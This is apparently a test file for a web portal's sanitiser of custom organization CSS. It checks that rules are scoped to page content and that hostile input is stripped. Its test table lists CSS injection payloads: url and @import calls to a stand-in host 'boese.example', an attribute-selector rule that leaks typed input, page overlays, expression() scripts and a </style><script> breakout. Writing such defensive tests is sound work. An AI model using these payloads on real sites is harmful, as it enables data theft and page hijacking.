import { describe, expect, test } from 'vitest'
import type { PublicOrganization } from '#contract/organizations/rows.ts'
import { factories } from '../factories.ts'
import { type Caller, createTestServices } from '../services.ts'

const { services, call } = await createTestServices()
const make = factories(services)
const organization = await make.organization()
const here: Caller = { host: organization.portal_domain }
const clerk = await make.signIn(await make.staff(organization), organization)

async function servedFor(theme_custom_css: string) {
  const path = `/api/organizations/${organization.id}`
  expect(await call(clerk, 'PUT', path, { theme_custom_css })).toMatchObject({ status: 200 })
  const found = await call(here, 'GET', `/api/organizations/findByHostname?hostname=${here.host}`)
  const { styles_url } = found.data as PublicOrganization
  if (styles_url === null) return { styles_url, css: '' }
  const { status, headers, body } = await call(here, 'GET', styles_url)
  expect([status, headers.get('content-type')]).toEqual([200, 'text/css; charset=utf-8'])
  expect(headers.get('x-content-type-options')).toBe('nosniff')
  return { styles_url, css: String(body) }
}

const cssOf = async (source: string) => (await servedFor(source)).css

describe('styles of an organization', () => {
  test('are served for the content of its pages, at an address that changes with them', async () => {
    const red = await servedFor('h1, .lead > a:hover { color: #B51C1C; margin: 0 auto }')
    expect(red.css).toBe('#inhalt h1,#inhalt .lead>a:hover{color:#B51C1C;margin:0 auto}')
    const blue = await servedFor('h1 { color: var(--p-strong) }')
    expect(blue.css).toBe('#inhalt h1{color:var(--p-strong)}')
    expect(blue.styles_url).not.toBe(red.styles_url)
    expect((await servedFor('h1 { color: #B51C1C }')).styles_url).toMatch(/styles\?v=[0-9a-f]{16}$/)
  })

  test('may contain media queries', async () => {
    expect(await cssOf('@media (width < 720px) { h1 { font-size: 24px } @import "a.css"; }')).toBe(
      '@media (width<720px){#inhalt h1{font-size:24px}}',
    )
  })

  test('are not served where there are none', async () => {
    expect(await servedFor('')).toEqual({ styles_url: null, css: '' })
  })

  test.each([
    ['fetch another file', '@import url(https://boese.example/a.css);'],
    ['fetch another file, in quotes', "@import 'a.css' screen;"],
    ['bring a font', '@font-face { font-family: x; src: url(https://boese.example/x.woff2) }'],
    ['fetch a picture', 'h1 { background: url(https://boese.example/?leck) }'],
    ['fetch a picture, in quotes', 'h1 { background-image: URL("//boese.example") }'],
    ['fetch a picture, with an escape', 'h1 { background-image: u\\72l(//boese.example) }'],
    ['fetch a picture of a set', 'h1 { background-image: image-set("//boese.example" 1x) }'],
    ['fetch a picture through a gradient', 'h1 { background: linear-gradient(red, blue), url(//b.example) }'],
    ['tell what is typed', 'input[value^="a"] { background: url(//boese.example/a) }'],
    ['lay itself over the page', 'div { position: fixed; inset: 0; z-index: 9999 }'],
    ['lay itself over the page, hidden', 'div { POSITION: f\\69xed }'],
    ['move out of its place', 'div { transform: translateY(-900px); top: 0; animation: x 1s }'],
    ['run a script', 'h1 { width: expression(alert(1)) }'],
    ['bring a behaviour', 'h1 { behavior: url(a.htc); -moz-binding: url(a.xml#b) }'],
    ['name a value for others', ':root { --p: url(//boese.example) }'],
    ['reach what stands beside the content', '~ footer, + footer, > p ~ q { display: none }'],
    ['reach out from inside a rule', '.a { body:has(&) footer { display: none } }'],
    ['reach out by a scope', '@scope (body) { footer { display: none } }'],
    ['reach out by the nesting sign', '& ~ footer { display: none }'],
    ['break out of a rule', 'h1 { color: red } } footer { '],
    ['break out of the page', '</style><script>alert(1)</script>'],
    ['be too deep', 'h1 { width: '.concat('calc('.repeat(3900), '1px') + ' }'],
    ['be no styles at all', '\\'.repeat(500) + '{{{[[[((('],
  ])('cannot %s', async (_title, source) => {
    const css = await cssOf(source)
    expect(css).not.toMatch(
      /url|import|@(?!media)|fixed|expression|behavior|example|script|position|top:|animation/i,
    )
    expect(css.replace(/@media[^{]*\{|\}/g, '\n')).not.toMatch(/^(?!#inhalt |$)/m)
    expect(css).not.toMatch(/#inhalt [~+>&]|--/)
  })

  test('keep allowed rules beside rejected ones', async () => {
    expect(
      await cssOf('h1 { color: red; position: fixed; background: url(a) } > b, em { color: tan !important }'),
    ).toBe('#inhalt h1{color:red}#inhalt em{color:tan!important}')
  })
})
